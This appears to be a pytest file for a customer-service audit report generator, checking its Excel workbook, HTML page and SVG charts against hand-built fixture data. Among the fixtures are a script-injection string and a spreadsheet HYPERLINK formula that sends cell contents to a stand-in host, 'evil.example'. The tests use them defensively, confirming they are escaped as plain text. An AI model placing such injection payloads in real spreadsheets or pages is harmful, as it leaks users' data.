"""The audit report's outputs built from an AuditReport: `audit_report_PERIOD.xlsx` and
`audit_report_PERIOD.html` with its SVG charts (docs/outputs.md). The report is built by hand here, so
the figures checked are the ones given."""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from browser import chromium, chromium_or_skip
from csbatch.audit.report import COMPLAINT_COLUMNS, DEADLINE_COLUMNS, FIGURES, AuditReport
from csbatch.reports import charts
from csbatch.reports.audit_page import DRAWN_SCRIPT, fmt, script_hash, write_audit_page
from csbatch.reports.audit_workbook import write_audit_workbook
from csbatch.reports.tables import COMPLAINTS, DEADLINES

PERIOD = "2026-10"
HOSTILE_HTML = "<script>alert(1)</script>"
HOSTILE_XLSX = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
T = pd.Timestamp
D = Decimal
SECTIONS = ["environment", "principles", "proactive", "taboos"]
ITEMS = (["ENV-1", "ENV-2"] + [f"PRN-{i}" for i in range(1, 5)] + [f"PRO-{i}" for i in range(1, 7)]
         + [f"TAB-{i}" for i in range(1, 11)])


def frame(rows: list[dict], columns: list[str], **dtypes) -> pd.DataFrame:
    out = pd.DataFrame(rows, columns=columns)
    for col, dtype in dtypes.items():
        out[col] = out[col].astype(dtype)
    return out


def deadlines() -> pd.DataFrame:
    cols = DEADLINE_COLUMNS + ["rule_name", "employee_name", "due_kind"]
    rows = [
        ("complaint_resolution", "E001", "TS-1001", T("2026-10-06 09:00"), T("2026-10-05 16:20"), "on_time", "投诉处理时限", "张三", "after"),
        ("complaint_resolution", "E002", "TS-1002", T("2026-10-12 14:00"), T("2026-10-13 10:05"), "late", "投诉处理时限", "李四", "after"),
        ("complaint_resolution", "E003", "TS-1003", T("2026-10-20 11:00"), None, "missing", "投诉处理时限", "王五", "after"),
        ("production_sheet", "E001", "2026-10", T("2026-11-02 18:00"), None, "open", "产量表", "张三", "next_month"),
        ("call_log", "E004", "2026-W40", T("2026-10-05 10:00"), T("2026-10-05 09:12"), "on_time", "接线记录", "赵六", "weekly"),
        ("call_log", "E004", "2026-W41", T("2026-10-12 10:00"), T("2026-10-12 11:30"), "late", "接线记录", "赵六", "weekly"),
        ("call_log", "E004", "2026-W42", T("2026-10-19 10:00"), None, "missing", "接线记录", "赵六", "weekly"),
        ("service_order", "E002", "FW-0007", T("2026-10-11 23:59:59"), T("2026-10-09 17:00"), "on_time", "服务单", "李四", "end_of_week"),
        ("service_order", "E005", "FW-0008", T("2026-10-18 23:59:59"), T("2026-10-16 12:00"), "on_time", "服务单", "钱七", "end_of_week"),
    ]
    return frame([dict(zip(cols, r)) for r in rows], cols, due_at="datetime64[ns]", submitted_at="datetime64[ns]")


def complaints() -> pd.DataFrame:
    cols = COMPLAINT_COLUMNS + ["customer_id", "order_id", "description", "category_name", "due_at"]
    rows = [
        ("TS-1001", "E001", "service", True, T("2026-10-03 09:00"), T("2026-10-05 16:20"), D("2.3"), "on_time", True, D("0"), "C0001", "SO-1", "回复慢", "服务投诉"),
        ("TS-1002", "E002", "quality", False, T("2026-10-09 14:00"), T("2026-10-13 10:05"), D("3.8"), "late", False, D("1200.00"), "C0002", "SO-2", HOSTILE_HTML, "质量问题"),
        ("TS-1003", "E003", "late_delivery", True, T("2026-10-17 11:00"), None, D("14.5"), "open_past_sla", None, D("350.50"), "C0003", "SO-3", HOSTILE_XLSX, "交货延迟"),
        ("TS-1004", "E001", "service", True, T("2026-10-20 10:00"), T("2026-10-21 09:00"), D("1"), "on_time", True, D("0"), "C0004", "SO-4", "态度冷淡", "服务投诉"),
        ("TS-1005", "E005", "billing", True, T("2026-10-22 10:00"), T("2026-10-23 09:00"), D("1"), "on_time", True, D("0"), "C0005", "SO-5", "发票抬头错误", "票据错误"),
        ("TS-1006", "E004", "service", True, T("2026-10-30 16:00"), None, D("1.3"), "open_within_sla", None, D("0"), "C0006", "SO-6", "未回电", "服务投诉"),
    ]
    out = [dict(zip(cols, r + (r[4] + pd.Timedelta(hours=72),))) for r in rows]
    return frame(out, cols, received_at="datetime64[ns]", resolved_at="datetime64[ns]", due_at="datetime64[ns]")


def categories() -> pd.DataFrame:
    cols = ["category", "category_name", "complaints", "our_fault", "on_time", "late", "open_within_sla",
            "open_past_sla", "loss_amount"]
    rows = [("service", "服务投诉", 3, 3, 2, 0, 1, 0, D("0")), ("quality", "质量问题", 1, 0, 0, 1, 0, 0, D("1200.00")),
            ("late_delivery", "交货延迟", 1, 1, 0, 0, 0, 1, D("350.50")), ("billing", "票据错误", 1, 1, 1, 0, 0, 0, D("0")),
            ("financial", "财务错误", 0, 0, 0, 0, 0, 0, D("0"))]
    return frame([dict(zip(cols, r)) for r in rows], cols)


def qa_agents() -> pd.DataFrame:
    cols = ["employee_id", "name", "team", "audits", "mean_score", *SECTIONS, "violations"]
    rows = [("E001", "张三", "一组", 2, D("92.5"), D("10"), D("20"), D("26.5"), D("36"), 1),
            ("E002", "李四", "一组", 2, D("74.0"), D("7.5"), D("15"), D("23.5"), D("28"), 3),
            ("E003", "王五", "二组", 1, D("85.0"), D("10"), D("20"), D("25"), D("30"), 2),
            ("E005", "钱七", "二组", 1, D("100"), D("10"), D("20"), D("30"), D("40"), 0),
            ("E006", HOSTILE_HTML, "二组", 0, None, None, None, None, None, 0)]
    return frame([dict(zip(cols, r)) for r in rows], cols)


def heatmap() -> pd.DataFrame:
    one = [1, 0.75, 1, 0.75, 1, 1, 1, 0.5, 0.75, 1, 1, 0.75, 0.5, 0.75, 1, 0.75, 0.75, 1, 1, 1, 1, 1]
    two = [1, 1, 1, 1, 0.5, 1, 1, 1, 1, 0.67, 1, 1, 0.5, 1, 1, 1, 1, 1, 1, 1, 1, None]
    return pd.DataFrame([one, two], index=pd.Index(["一组", "二组"], name="team"), columns=ITEMS)


def trends() -> pd.DataFrame:
    earlier = {
        "2026-08": dict(complaints=9, complaints_on_time_share=D("0.78"), complaints_open_past_sla=2,
                        our_fault_share=D("0.67"), losses=D("2400.00"), callback_completion=D("0.82"),
                        callback_satisfied_share=D("0.75"), qa_mean_score=D("84.2"), not_audited=3,
                        deadlines_on_time_share=D("0.61"), special_price_refunds=2),
        "2026-09": dict(complaints=7, complaints_on_time_share=D("0.71"), complaints_open_past_sla=1,
                        our_fault_share=D("0.71"), losses=D("980.00"), callback_completion=D("0.9"),
                        callback_satisfied_share=D("0.8"), qa_mean_score=D("86.0"), not_audited=2,
                        deadlines_on_time_share=D("0.55"), special_price_refunds=0),
    }
    rows = [dict(period=p, figure=f, value=v) for p, figs in earlier.items() for f, v in figs.items()]
    rows += [dict(period=PERIOD, figure=f, value=v) for f, v in FIGURES_NOW.items()]
    out = pd.DataFrame(rows, columns=["period", "figure", "value"])
    out["value"] = pd.Series([r["value"] for r in rows], dtype=object)
    return out


FIGURES_NOW = dict(complaints=6, complaints_on_time_share=D("0.6"), complaints_open_past_sla=1,
                   our_fault_share=D("0.833333"), losses=D("1550.50"), callback_completion=D("0.875"),
                   callback_satisfied_share=D("0.8"), qa_mean_score=D("87.1"), not_audited=1,
                   deadlines_on_time_share=D("0.5"), special_price_refunds=1)


def report(**kw) -> AuditReport:
    args = dict(
        period=PERIOD,
        deadlines=deadlines(),
        complaints=complaints(),
        complaint_categories=categories(),
        complaint_stages=frame([dict(complaint_id="T9", employee_id="E002", category="quality", category_name="质量问题",
                                     resolved_at=T("2026-10-09 10:00"), missing="customer_signed product_retrieved")],
                               ["complaint_id", "employee_id", "category", "category_name", "resolved_at", "missing"]),
        exceptions=frame([dict(order_id="SO-202610-0088", customer_id="C0009", employee_id="E002",
                               order_date=T("2026-10-08"), amount=D("499.00"), note="特价商品退款 @客服")],
                         ["order_id", "customer_id", "employee_id", "order_date", "amount", "note"]),
        callbacks=frame([dict(employee_id="E001", name="张三", team="一组", planned=10, done=10, completion=D("1"),
                              rated=9, satisfied=8, neutral=1, dissatisfied=0, repurchase_yes=4,
                              repurchase_share=D("0.444444")),
                         dict(employee_id="E002", name="李四", team="一组", planned=6, done=4,
                              completion=D("0.666667"), rated=4, satisfied=2, neutral=1, dissatisfied=1,
                              repurchase_yes=1, repurchase_share=D("0.25"))],
                        ["employee_id", "name", "team", "planned", "done", "completion", "rated", "satisfied",
                         "neutral", "dissatisfied", "repurchase_yes", "repurchase_share"]),
        qa_agents=qa_agents(),
        qa_teams=frame([dict(team="一组", agents=2, audits=4, mean_score=D("83.25"), environment=D("8.75"),
                             principles=D("17.5"), proactive=D("25"), taboos=D("32")),
                        dict(team="二组", agents=3, audits=2, mean_score=D("92.5"), environment=D("10"),
                             principles=D("20"), proactive=D("27.5"), taboos=D("35"))],
                       ["team", "agents", "audits", "mean_score", *SECTIONS]),
        qa_heatmap=heatmap(),
        taboos=frame([dict(item=f"TAB-{i}", text=t, violations=v, audits=6, share=D(v) / 6)
                      for i, (t, v) in enumerate([("回复慢", 3), ("回复慢且无解释", 1), ("离岗", 0), ("推诿", 1),
                                                  ("态度冷淡", 1), ("闲聊", 0), ("交班时客户仍在等待", 0),
                                                  ("催促客户", 0), ("否定用语", 0), ("其他严重违规", 0)], 1)],
                     ["item", "text", "violations", "audits", "share"]),
        not_audited=frame([dict(employee_id="E006", name=HOSTILE_HTML, team="二组")], ["employee_id", "name", "team"]),
        auditors=frame([dict(auditor="周督导", audits=4, agents=3, mean_score=D("90.6"), difference=D("3.5")),
                        dict(auditor="吴督导", audits=2, agents=2, mean_score=D("79.0"), difference=D("-8.1"))],
                       ["auditor", "audits", "agents", "mean_score", "difference"]),
        figures=dict(FIGURES_NOW),
        trends=trends(),
    )
    args.update(kw)
    return AuditReport(**args)


# --- tables ------------------------------------------------------------------------------------

def test_tables_are_the_csv_contract():
    assert DEADLINES.names[:6] == ["rule", "employee_id", "reference", "due_at", "submitted_at", "status"]
    assert DEADLINES.names[6:] == ["key"]   # after the contract's columns: which evidence row
    assert COMPLAINTS.names == ["complaint_id", "employee_id", "category", "our_fault", "received_at",
                                "resolved_at", "days_open", "sla_status", "satisfied", "loss_amount"]
    assert DEADLINES.names[:len(DEADLINE_COLUMNS)] == DEADLINE_COLUMNS and COMPLAINTS.names == COMPLAINT_COLUMNS
    kinds = {c.name: c.kind for c in COMPLAINTS.columns}
    assert (kinds["days_open"], kinds["received_at"], kinds["loss_amount"], kinds["our_fault"]) == \
        ("number", "datetime", "money", "bool")
    assert {c.name: c.kind for c in DEADLINES.columns}["due_at"] == "datetime"


# --- workbook ----------------------------------------------------------------------------------

SHEETS = ["时限检查", "时限按人汇总", "投诉", "投诉分类", "投诉环节缺失", "特价退款例外", "回访", "督导问卷-客服", "督导问卷-班组", "问卷项目得分率",
          "服务禁忌", "未检测客服", "督导员对比", "趋势"]


@pytest.fixture
def book(tmp_path, policy):
    path = write_audit_workbook(tmp_path / f"audit_report_{PERIOD}.xlsx", report(), policy, "zh")
    return openpyxl.load_workbook(path)


def header(ws):
    return [c.value for c in ws[1]]


def column(ws, name):
    return header(ws).index(name) + 1


def formats(ws) -> list[tuple[str, str, list]]:
    """(range, type, formulas) of each conditional format of a sheet."""
    return [(str(cf.sqref), rule.type, list(rule.formula or [])) for cf in ws.conditional_formatting
            for rule in cf.rules]


def test_workbook_sheets_headers_frozen_and_filtered(book):
    assert book.sheetnames == SHEETS
    assert header(book["时限检查"]) == ["规则", "工号", "事项", "截止时间", "提交时间", "状态", "编号", "姓名",
                                         "考核成绩", "考核及格"]
    assert header(book["投诉"])[:10] == ["投诉编号", "工号", "投诉类别", "我方责任", "受理时间", "解决时间", "处理天数",
                                        "时限状态", "客户满意", "损失金额"]
    assert header(book["督导问卷-客服"]) == ["工号", "姓名", "班组", "检测次数", "平均分", "办公环境", "服务原则",
                                          "服务三主动", "服务禁忌", "违规次数"]
    assert header(book["问卷项目得分率"])[:2] == ["班组", "ENV-1 办公桌是否整洁"]
    assert header(book["趋势"]) == ["指标", "2026-08", "2026-09", "2026-10", "环比变化"]   # no code column
    for ws in book.worksheets:
        assert ws.freeze_panes in ("A2", "B2"), ws.title
        assert ws.auto_filter.ref, ws.title


def test_breaches_are_highlighted(book):
    deadlines_ws = book["时限检查"]
    assert [deadlines_ws.cell(r, 6).value for r in range(2, 5)] == ["按时", "逾期", "缺失"]
    assert deadlines_ws["A2"].value == "投诉处理时限"  # the rule's name in Chinese
    rules = formats(deadlines_ws)
    assert ("A2:J10", "expression", ['OR($F2="逾期",$F2="缺失")']) in rules
    complaints_ws = book["投诉"]
    assert ("A2:N7", "expression", ['OR($H2="逾期解决",$H2="超时未结")']) in formats(complaints_ws)
    assert complaints_ws["H4"].value == "超时未结"
    assert any(t == "cellIs" and r == "E2:E6" for r, t, _ in formats(book["督导问卷-客服"]))  # low scores
    assert any(t == "expression" and "ABS($E2)>=5" in f[0] for _, t, f in formats(book["督导员对比"]))
    assert any(t == "colorScale" for _, t, _ in formats(book["问卷项目得分率"]))
    assert any(t == "dataBar" for _, t, _ in formats(book["服务禁忌"]))
    assert any(t == "cellIs" for _, t, _ in formats(book["回访"]))


def test_typed_cells(book):
    ws = book["投诉"]
    received = ws.cell(2, column(ws, "受理时间"))
    assert received.is_date and received.value == dt.datetime(2026, 10, 3, 9, 0)
    assert received.number_format == "yyyy-mm-dd hh:mm"
    assert ws.cell(4, column(ws, "解决时间")).value is None  # still open: blank
    loss = ws.cell(4, column(ws, "损失金额"))
    assert loss.value == pytest.approx(350.5) and isinstance(loss.value, float) and "¥" in loss.number_format
    assert ws.cell(3, column(ws, "损失金额")).value == 1200  # a number, not the text "1200.00"
    assert ws.cell(2, column(ws, "我方责任")).value == "是"        # a boolean in words, never TRUE
    assert ws.cell(4, column(ws, "处理天数")).value == pytest.approx(14.5)
    exc = book["特价退款例外"]
    assert exc["D2"].is_date and exc["E2"].value == pytest.approx(499.0) and "¥" in exc["E2"].number_format
    heat = book["问卷项目得分率"]
    assert heat["A2"].value == "一组" and heat["C2"].value == pytest.approx(0.75) and heat["C2"].number_format == "0.0%"
    assert heat["W3"].value is None  # no data
    trend = book["趋势"]
    rows = {trend.cell(r, 1).value: r for r in range(2, trend.max_row + 1)}
    r = rows["投诉损失金额"]
    assert [trend.cell(r, c).value for c in (2, 3, 4)] == pytest.approx([2400.0, 980.0, 1550.5])
    assert "¥" in trend.cell(r, 4).number_format
    assert trend.cell(r, 5).value == pytest.approx(570.5)
    r = rows["投诉按时解决率"]
    assert trend.cell(r, 4).number_format == "0.0%" and trend.cell(r, 5).value == pytest.approx(-0.11)


def test_formula_looking_text_stays_text(book):
    ws = book["投诉"]
    cell = ws.cell(4, column(ws, "投诉内容"))
    assert cell.value == HOSTILE_XLSX and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(3, column(ws, "投诉内容")).value == HOSTILE_HTML
    assert book["特价退款例外"]["F2"].value == "特价商品退款 @客服"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row), sheet.title


def test_english_workbook_shows_words(tmp_path, policy):
    wb = openpyxl.load_workbook(write_audit_workbook(tmp_path / "en.xlsx", report(), policy, "en"))
    assert wb.sheetnames[:4] == ["Deadlines", "Deadlines by person", "Complaints", "Complaint categories"]
    # the policy names rules in Chinese only: English shows the code spelled out, never the code
    assert wb["Deadlines"]["A2"].value == "complaint resolution" and wb["Deadlines"]["F3"].value == "late"
    assert header(wb["QA agents"])[5:9] == SECTIONS
    assert ("A2:J10", "expression", ['OR($F2="late",$F2="missing")']) in formats(wb["Deadlines"])


def test_an_empty_month(tmp_path, policy):
    def empty(df):
        return df.iloc[0:0]

    r = report()
    quiet = report(**{name: empty(getattr(r, name)) for name in (
        "deadlines", "complaints", "complaint_categories", "exceptions", "callbacks", "qa_agents", "qa_teams",
        "qa_heatmap", "taboos", "not_audited", "auditors")}, figures=dict.fromkeys(FIGURES),
        trends=pd.DataFrame(columns=["period", "figure", "value"]))
    wb = openpyxl.load_workbook(write_audit_workbook(tmp_path / "empty.xlsx", quiet, policy, "zh"))
    assert wb.sheetnames == SHEETS
    html = write_audit_page(tmp_path / "empty.html", quiet, policy).read_text(encoding="utf-8")
    assert "<figure" not in html and "本月没有投诉" in html and "趋势需要至少两个已结账月份的数据" in html


# --- charts ------------------------------------------------------------------------------------

def test_charts_are_inline_text_svg_and_deterministic(policy):
    r = report()
    groups = [(s.name, [i.code for i in s.items]) for s in policy.questionnaire.sections]
    first = charts.qa_heatmap(r.qa_heatmap, groups)
    assert first == charts.qa_heatmap(heatmap(), groups)
    assert first.startswith("<svg ") and "<?xml" not in first and "<metadata" not in first
    assert "http" not in first  # no namespace URLs, no creator link
    assert "<text" in first and "服务三主动" in first and "ENV-1" in first and "<image" not in first
    assert "font-family: 'Noto Sans CJK SC'" in first
    sla = charts.complaint_sla(r.complaint_categories)
    assert "交货延迟" in sla and "财务错误" not in sla  # categories without complaints are left out
    assert charts.complaint_sla(r.complaint_categories.iloc[0:0]) is None
    assert charts.trend(r.trends, "qa_mean_score", "督导问卷平均分", "decimal").count("<text") >= 6
    assert charts.trend(r.trends[r.trends["period"] == PERIOD], "qa_mean_score", "x") is None  # one month
    ids = [set(re.findall(r'id="([^"]+)"', svg)) for svg in (first, sla, charts.deadlines_by_rule(r.deadlines))]
    assert not (ids[0] & ids[1]) and not (ids[1] & ids[2])  # one page, no shared ids


def test_hostile_labels_are_escaped_in_charts():
    hm = heatmap()
    hm.index = pd.Index([HOSTILE_HTML, "二组$x$"], name="team")
    svg = charts.qa_heatmap(hm)
    assert HOSTILE_HTML not in svg and "&lt;script&gt;alert(1)&lt;/script&gt;" in svg
    assert "二组$x$" in svg  # plain text, not mathtext


# --- page --------------------------------------------------------------------------------------

@pytest.fixture
def page(tmp_path, policy) -> Path:
    return write_audit_page(tmp_path / f"audit_report_{PERIOD}.html", report(), policy, "zh")


def test_page_content_and_escaping(page):
    html = page.read_text(encoding="utf-8")
    assert html.startswith("<!doctype html>") and '<html lang="zh-CN">' in html
    assert "@media print" in html and "size: A4" in html
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    assert "default-src 'none'" in csp and f"script-src '{script_hash()}'" in csp and "unsafe-eval" not in csp
    assert html.count("<script") == 1 and f"<script>{DRAWN_SCRIPT}</script>" in html
    assert HOSTILE_HTML not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    shown = "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;点我&#34;)"
    assert shown in html  # a description is text, whatever it looks like
    rest = html.replace(shown, "")
    assert "http://" not in rest and "https://" not in rest and "<link" not in rest and "url(http" not in rest
    for name in ("deadlines", "complaint_sla", "qa_heatmap", *(f"trend-{f}" for f in FIGURES)):
        assert f'<figure class="chart" data-chart="{name}">' in html, name
    assert 'id="fig-complaints">6<' in html and 'id="fig-qa_mean_score">87.1<' in html
    assert 'id="fig-losses">¥1,550.50<' in html and 'id="fig-complaints_on_time_share">60.0%<' in html
    assert 'id="change-complaints_on_time_share"><b>-11.0 个百分点</b>' in html  # fell: worse
    assert "2026-09：71.0%" in html
    assert 'id="change-complaints"><b>-1</b>' in html  # 7 → 6
    tones = {label: tone for tone, label in re.findall(r'<div class="fig (\w+)">\s*<div class="k">([^<]+)<', html)}
    assert tones["投诉数"] == "better" and tones["投诉按时解决率"] == "worse" and tones["回访满意率"] == "flat"
    assert 'id="complaint-count">6<' in html and 'id="loss-total">¥1,550.50<' in html
    # breaches first: the missing call log before the late complaint
    breaches = html[html.index('id="deadline-breaches"'):]
    assert breaches.index("2026-W42") < breaches.index("TS-1002")
    assert "需辅导的客服" in html and "李四" in html and "吴督导" in html and "SO-202610-0088" in html
    assert fmt(D("0.8333333"), "rate") == "83.3%" and fmt(None, "money") == "—"


def test_page_is_deterministic(tmp_path, policy, page):
    again = write_audit_page(tmp_path / "again.html", report(), policy, "zh")
    assert again.read_bytes() == page.read_bytes()


# --- headless Chromium -------------------------------------------------------------------------

def test_page_renders_in_headless_chromium(tmp_path, page):
    exe = chromium_or_skip()
    url = page.resolve().as_uri()

    dom = chromium(exe, tmp_path / "profile", "--window-size=1280,2400", "--dump-dom", url)
    assert dom.returncode == 0, dom.stderr[-2000:]
    html = dom.stdout
    assert '<div class="page">' in html  # the page was parsed, not an error page
    figures = re.findall(r'<figure class="chart" data-chart="([^"]+)"([^>]*)>', html)
    assert len(figures) == 3 + len(FIGURES), figures
    undrawn = [name for name, attrs in figures if 'data-drawn="yes"' not in attrs]
    assert not undrawn, f"charts that did not draw (or the script did not run): {undrawn}"
    for key in ('id="fig-complaints">6<', 'id="fig-qa_mean_score">87.1<', 'id="complaint-count">6<',
                'id="qa-mean">87.1<', "李四", "交货延迟"):
        assert key in html, key
    assert "<script>alert(1)</script>" not in html.replace(f"<script>{DRAWN_SCRIPT}</script>", "")

    png = tmp_path / "laptop.png"
    shot = chromium(exe, tmp_path / "profile2", f"--screenshot={png}", "--window-size=1280,2400", url)
    assert shot.returncode == 0, shot.stderr[-2000:]
    assert png.exists() and png.stat().st_size > 50_000
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (1280, 2400)
    if os.environ.get("CSBATCH_KEEP_SCREENSHOT"):
        shutil.copy(png, os.environ["CSBATCH_KEEP_SCREENSHOT"])


def test_coaching_and_auditor_thresholds_come_from_the_policy(policy_copy):
    from csbatch.reports.audit_page import qa_context

    policy, _ = policy_copy.load()
    default = qa_context(report(), policy)
    policy_copy.edit("audit.yaml", "  qa_below: 80 ", "  qa_below: 0 ")
    policy_copy.edit("audit.yaml", "  any_taboo: true ", "  any_taboo: false ")
    policy_copy.edit("audit.yaml", "auditor_gap: 5 ", "auditor_gap: 0.5 ")
    strict, _ = policy_copy.load()
    changed = qa_context(report(), strict)
    assert (default["low"], changed["low"]) == (80, 0)
    assert default["coaching"] and changed["coaching"] == []   # no score below 0, and taboos no longer count
    assert sum(r["far"] for r in changed["auditors"]) > sum(r["far"] for r in default["auditors"])


def test_deadlines_by_person_counted_once_are_what_each_output_counts(tmp_path, policy):
    """The close counts `by_person` once and hands it to the workbook and the page: each writes
    what it writes counting it itself, and leaves the frame as it was."""
    import zipfile

    from csbatch.audit.deadline_checks import by_person

    people = by_person(report().deadlines)
    before = people.copy()
    alone = write_audit_workbook(tmp_path / "alone.xlsx", report(), policy, "zh")
    given = write_audit_workbook(tmp_path / "given.xlsx", report(), policy, "zh", people)
    a, g = zipfile.ZipFile(alone), zipfile.ZipFile(given)
    for name in a.namelist():
        if name.startswith("xl/worksheets/") or name in ("xl/sharedStrings.xml", "xl/styles.xml"):
            assert a.read(name) == g.read(name), name
    page_alone = write_audit_page(tmp_path / "alone.html", report(), policy, "zh")
    page_given = write_audit_page(tmp_path / "given.html", report(), policy, "zh", people)
    assert page_alone.read_bytes() == page_given.read_bytes()
    pd.testing.assert_frame_equal(people, before)
